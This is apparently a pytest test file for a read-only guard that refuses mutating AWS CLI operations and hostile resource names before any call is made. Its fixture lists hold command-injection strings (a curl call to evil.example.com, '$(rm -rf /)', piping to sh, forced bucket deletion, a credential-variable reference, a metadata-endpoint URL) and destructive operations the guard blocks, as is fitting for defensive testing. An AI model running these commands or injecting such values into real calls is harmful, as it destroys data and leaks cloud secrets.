"""The read-only guard: hostile names and parameters are refused before anything reaches a server."""

from __future__ import annotations

import pytest

from agent_config.checks.evidence import ApiCall, Evidence
from agent_config.checks.registry import plan_all
from agent_config.integrations.direct_api import DirectApi
from agent_config.integrations.read_only_guard import READ_OPERATIONS, check_call, cli_command
from agent_config.utils.error_handling import InvalidInput

HOSTILE_VALUES = [
    "acme-bucket --endpoint-url http://evil.example.com",
    "acme-bucket; aws s3 rb s3://acme-prod --force",
    "acme-bucket && curl http://evil.example.com",
    "acme-bucket | sh",
    "$(rm -rf /)",
    "`reboot`",
    "acme-bucket\naws iam delete-user --user-name admin",
    "acme-bucket\r\n--profile prod",
    "'acme-bucket'",
    '"acme-bucket"',
    "acme bucket",
    "--endpoint-url=http://169.254.169.254",
    "-acme",
    "acme-bucket#comment",
    "../../etc/passwd",
    "acme-bucket > /tmp/out",
    "acme-bucket\t--debug",
    "ACME_BUCKET_UPPER",
    "a" * 5000,
    "",
    "acme-bucket\x00",
    "acme-bucket\\",
    "${AWS_SECRET_ACCESS_KEY}",
    "acme-bucket,--region,eu-west-1",
]
HOSTILE_OPERATIONS = [
    ("s3api", "delete-bucket"),
    ("s3api", "put-bucket-policy"),
    ("s3api", "put-public-access-block"),
    ("iam", "create-access-key"),
    ("iam", "attach-user-policy"),
    ("iam", "delete-user"),
    ("ec2", "terminate-instances"),
    ("ec2", "authorize-security-group-ingress"),
    ("ec2", "modify-instance-metadata-options"),
    ("kms", "schedule-key-deletion"),
    ("lambda", "add-permission"),
    ("lambda", "invoke"),
    ("secretsmanager", "get-secret-value"),
    ("ssm", "send-command"),
    ("sts", "assume-role"),
    ("s3", "rm"),
    ("organizations", "leave-organization"),
    ("cloudtrail", "stop-logging"),
]
HOSTILE_PARAMETERS = [
    ("endpoint-url", "http://evil.example.com"),
    ("profile", "prod"),
    ("debug", "true"),
    ("cli-input-json", '{"Bucket": "x"}'),
    ("query", "Buckets[].Name"),
    ("output", "text"),
]


@pytest.mark.parametrize("value", HOSTILE_VALUES, ids=range(len(HOSTILE_VALUES)))
def test_hostile_resource_names_are_refused(value: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(ApiCall.of("s3api", "get-bucket-policy", bucket=value))


@pytest.mark.parametrize(("service", "operation"), HOSTILE_OPERATIONS, ids=str)
def test_mutating_or_unlisted_operations_are_refused(service: str, operation: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(ApiCall.of(service, operation))


@pytest.mark.parametrize(("name", "value"), HOSTILE_PARAMETERS, ids=str)
def test_options_that_change_where_or_how_a_command_runs_are_refused(name: str, value: str) -> None:
    with pytest.raises(InvalidInput, match="not allowed"):
        check_call(ApiCall(service="s3api", operation="list-buckets", parameters=((name, value),)))


@pytest.mark.parametrize("region", ["us-east-1 --profile x", "mars-1", "us-east-1;", "", "US-EAST-1"])
def test_regions_must_look_like_regions(region: str) -> None:
    with pytest.raises(InvalidInput, match="Region"):
        check_call(ApiCall.of("ec2", "describe-instances", region))


def test_hostile_corpus_has_at_least_thirty_entries() -> None:
    assert len(HOSTILE_VALUES) + len(HOSTILE_OPERATIONS) + len(HOSTILE_PARAMETERS) >= 30


def test_a_valid_read_becomes_one_plain_cli_command() -> None:
    call = ApiCall.of("s3api", "get-bucket-policy", bucket="acme-prod-invoices")

    assert (
        cli_command(call, "us-east-1") == "aws s3api get-bucket-policy --bucket acme-prod-invoices --region us-east-1"
    )


def test_every_call_the_checks_plan_on_an_empty_account_passes_the_guard() -> None:
    calls = plan_all(["us-east-1", "eu-west-1"], Evidence(account_id="123456789012"))

    assert calls
    for call in calls:
        check_call(call)


def test_every_allowed_operation_reads() -> None:
    for service, operations in READ_OPERATIONS.items():
        for operation in operations:
            assert operation.startswith(("get-", "list-", "describe-", "head-", "generate-", "lookup-")), (
                service,
                operation,
            )


def test_the_direct_boto3_path_refuses_too_without_calling_aws() -> None:
    def no_clients(service: str, region: str) -> object:
        raise AssertionError("a client was created for a refused call")

    item = DirectApi(no_clients).read(ApiCall.of("s3api", "delete-bucket", bucket="acme-prod"), "us-east-1")

    assert item.error_code == "RefusedByGuard"
    assert not item.ok
